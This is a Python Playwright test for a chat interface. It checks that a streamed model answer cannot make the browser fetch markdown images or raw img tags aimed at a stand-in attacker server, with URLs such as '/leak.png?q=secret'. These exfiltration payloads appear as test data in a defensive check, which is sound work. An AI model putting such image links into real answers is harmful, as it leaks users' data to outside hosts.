"""A model answer cannot make the browser load anything: images and raw HTML in the answer are
shown as text (while streaming and after), and a link's real address is written out.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from components.devtools.browser import (
    assert_no_exception,
    console_errors,
    send_prompt,
    wait_for_idle,
)
from components.devtools.upstream import FakeUpstream, sse


@pytest.fixture(scope="module")
def app_env(operator_env: dict[str, str]) -> dict[str, str]:
    return operator_env


@pytest.fixture
def tracker() -> Iterator[FakeUpstream]:
    """A second server standing in for an attacker's: it records every request it gets."""
    with FakeUpstream() as fake:
        yield fake


def test_answer_cannot_load_images_or_html_and_shows_link_addresses(app, new_page, up, tracker):
    origin = tracker.origin
    # Split the way a stream may split it: "!" and "<" arrive before what makes them an image/tag.
    deltas = [
        "图里有一段隐藏的文字。\n\n",
        "!",
        f"[x]({origin}/leak.png?q=secret)\n\n",
        "<",
        f'img src="{origin}/leak2.png">\n\n',
        "更多信息见 ",
        f"[docs]({origin}/docs)",
        "。",
    ]
    up.enqueue(sse(deltas, delay=0.1))
    page = new_page(app)
    send_prompt(page, "图里写了什么？")

    answer = page.get_by_test_id("stChatMessage").last
    expect(answer).to_contain_text("更多信息见")
    wait_for_idle(page)
    expect(answer.get_by_test_id("stCaptionContainer")).to_be_visible()  # stream complete
    page.wait_for_load_state("networkidle")

    assert tracker.requests == [], [(r.method, r.path) for r in tracker.requests]
    expect(page.locator(f'img[src*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    expect(page.locator(f'[srcset*="127.0.0.1:{tracker.port}"]')).to_have_count(0)
    # What the model wrote is shown, as text.
    expect(answer).to_contain_text(f"{origin}/leak.png?q=secret")
    expect(answer).to_contain_text(f'img src="{origin}/leak2.png"')
    expect(answer.get_by_text(f"{origin}/docs")).to_be_visible()
    link = answer.get_by_role("link", name=f"{origin}/docs")
    expect(link).to_have_attribute("href", f"{origin}/docs")
    assert tracker.requests == []
    assert_no_exception(page)
    assert console_errors(page) == []
